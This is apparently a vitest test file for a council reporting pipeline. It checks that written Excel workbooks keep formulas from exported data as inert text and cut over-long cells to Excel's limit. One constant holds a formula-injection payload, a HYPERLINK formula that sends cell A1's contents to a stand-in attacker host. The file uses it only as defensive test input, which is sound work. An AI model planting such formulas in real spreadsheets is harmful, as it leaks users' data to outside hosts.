// Text from a council's export never runs as a formula or becomes a live link in a workbook the project writes, and
// no cell goes over Excel's 32,767-character limit. Each workbook is written, then opened again with exceljs.
import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { extract } from '../pipelines/extract/extract.js';
import { writeRejectsWorkbook } from '../pipelines/extract/rejects-workbook.js';
import { silentLogger } from '../core/logger.js';
import { withWarehouse } from '../core/warehouse.js';
import type { AppendixMeta } from '../reports/lib/appendix.js';
import { addTableSheet, newWorkbook } from '../reports/lib/xlsx.js';
import { tempDir, writeCsv } from './helpers/tmp.js';

const LINK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Assessment Team 1")';
const HEADER = [
  'Contact ID',
  'Child ID',
  'Contact Date',
  'Contact Source',
  'Receiving Team',
  'Open Case',
  'Domestic Abuse Notification',
  'Decision Date',
  'Contact Outcome',
];

/** Every cell of every sheet as exceljs reads it back, and whether any is a formula or a hyperlink (as Excel would see it). */
async function readBack(file: string): Promise<{ cells: ExcelJS.Cell[]; formulas: boolean }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const cells: ExcelJS.Cell[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => cells.push(c))));
  const live = [ExcelJS.ValueType.Formula, ExcelJS.ValueType.Hyperlink];
  return { cells, formulas: cells.some((c) => live.includes(c.type) || c.formula !== undefined || !!c.hyperlink) };
}

describe('workbooks the project writes', () => {
  it('print a formula from an export as inert text in an appendix table', async () => {
    const meta: AppendixMeta = {
      council: 'Demo Borough Council',
      directorate: "Children's Services",
      committee: 'Scrutiny',
      meetingDate: null,
      appendixNumber: '3',
      title: 'Complaints',
      period: '2019-20',
      periodEnd: '2020-03-31',
      forCommittee: true,
      dataAsAt: '2020-04-01T00:00:00Z',
      source: 'test',
      runId: 'r1',
      generatedAt: '2020-04-02T00:00:00Z',
      variant: 'public',
    };
    const wb = newWorkbook(meta);
    addTableSheet(wb, meta, {
      sheet: 'Compliments',
      title: 'Compliments by team',
      columns: [
        { header: 'Team', key: 'team', width: 30 },
        { header: 'Compliments', key: 'n', width: 12, numFmt: '#,##0' },
      ],
      rows: [
        { team: LINK, n: 7 },
        { team: 'MASH', n: 12 },
        { team: '+87%', n: 1 },
      ],
    });
    const file = path.join(tempDir('xlsx-safe'), 'a.xlsx');
    await wb.xlsx.writeFile(file);
    const { cells, formulas } = await readBack(file);
    expect(formulas).toBe(false);
    const team = cells.find((c) => String(c.value).includes('HYPERLINK'))!;
    expect(team.type).toBe(ExcelJS.ValueType.String);
    expect(team.value).toBe(`'${LINK}`);
    expect(cells.find((c) => c.value === 'MASH')).toBeDefined();
    expect(cells.find((c) => c.value === '+87%')).toBeDefined();
    expect(cells.find((c) => c.value === 7)?.type).toBe(ExcelJS.ValueType.Number);
  });

  it('cut a 2 MB rejected value to the cell limit with a marker, and keep formulas from exports inert, in rejects.xlsx', async () => {
    const dir = tempDir('rejects-safe');
    const huge = 'x'.repeat(2 * 1024 * 1024); // 2 MB: 64 times what a cell holds
    writeCsv(path.join(dir, 'in', 'contacts.csv'), [
      HEADER,
      ['K1', 'C1', huge, '2A', 'MASH', 'N', 'N', '', ''],
      ['K2', 'C2', '03/02/2020 10:00', LINK, 'MASH', 'N', 'N', '', ''],
      ['K3', 'C3', '03/02/2020 10:00', '2A', 'MASH', 'N', 'N', '', ''],
    ]);
    const out = path.join(dir, 'rejects.xlsx');
    await withWarehouse(path.join(dir, 'w.duckdb'), {}, async (db) => {
      const summary = await extract(db, {
        inputDir: path.join(dir, 'in'),
        runId: '20260101T000000Z-safe',
        log: silentLogger(),
      });
      expect(summary.files[0]).toMatchObject({ landed: 1, rejected: 2 });
      const [kept] = await db.json<{ n: number }>('SELECT max(length(raw_value))::INTEGER AS n FROM raw._rejects');
      expect(kept!.n).toBe(huge.length); // the whole value stays in the warehouse
      await writeRejectsWorkbook(db, out);
    });
    const { cells, formulas } = await readBack(out);
    expect(formulas).toBe(false);
    expect(Math.max(...cells.map((c) => String(c.value ?? '').length))).toBe(32_767);
    const cut = cells.find((c) => String(c.value).startsWith('xxxx'))!;
    expect(String(cut.value)).toMatch(
      / … \[cut to Excel's 32,767-character cell limit: 2,097,152 characters in all\]$/,
    );
    const link = cells.find((c) => String(c.value).startsWith(`'=HYPERLINK`))!;
    expect(link.type).toBe(ExcelJS.ValueType.String);
    expect(link.value).toBe(`'${LINK}`);
    // The reason quotes the value too; it starts with the field name, so it is plain text as it is.
    expect(cells.some((c) => String(c.value).startsWith(`Contact Source '${LINK}' is not a known code`))).toBe(true);
  });
});
